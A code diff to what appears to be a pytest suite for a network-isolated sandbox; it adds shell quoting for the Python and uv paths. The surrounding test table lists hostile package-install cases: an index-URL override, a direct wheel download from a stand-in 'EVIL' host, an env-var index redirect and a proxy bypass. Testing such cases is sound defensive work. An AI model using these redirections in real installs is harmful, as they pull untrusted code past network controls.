@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import asyncio
 import io
+import shlex
 import shutil
 import subprocess
 import sys
@@ -29,9 +30,10 @@ pytestmark = pytest.mark.namespaces
 
 A = SandboxId("set-up")
 SOON = 60.0  # seconds
-PIP = f"{sys.executable} -m pip download --no-deps -d /tmp/got --retries 0 --timeout 5 --no-cache-dir"
-UV = str(Path(sys.executable).parent / "uv")
-UV_INSTALL = f"{UV} pip install --target /tmp/got --no-cache --python {sys.executable}"
+PYTHON_HERE = shlex.quote(sys.executable)
+PIP = f"{PYTHON_HERE} -m pip download --no-deps -d /tmp/got --retries 0 --timeout 5 --no-cache-dir"
+UV = shlex.quote(str(Path(sys.executable).parent / "uv"))
+UV_INSTALL = f"{UV} pip install --target /tmp/got --no-cache --python {PYTHON_HERE}"
 NPM = "--fetch-retries=0 --fetch-timeout=5000"
 
 
@@ -129,7 +131,7 @@ PYTHON = (
     Hostile("--index-url", {"a.txt": f"--index-url {INDEX_URL}\npackage\n"}, f"{PIP} -r a.txt"),
     Hostile("direct", {"a.txt": "package @ http://EVIL/package-1-py3-none-any.whl\n"}, f"{PIP} -r a.txt"),
     Hostile("environment", {"env.sh": f"export UV_DEFAULT_INDEX={INDEX_URL}\n"}, f". ./env.sh; {UV_INSTALL} package"),
-    Hostile("uv.index", {"pyproject.toml": UV_PROJECT}, f"{UV} sync --no-cache --python {sys.executable}"),
+    Hostile("uv.index", {"pyproject.toml": UV_PROJECT}, f"{UV} sync --no-cache --python {PYTHON_HERE}"),
     Hostile("no proxy", {}, f"{NO_PROXY} {PIP} -i {INDEX_URL} package", around=True),
 )
 NODE = (
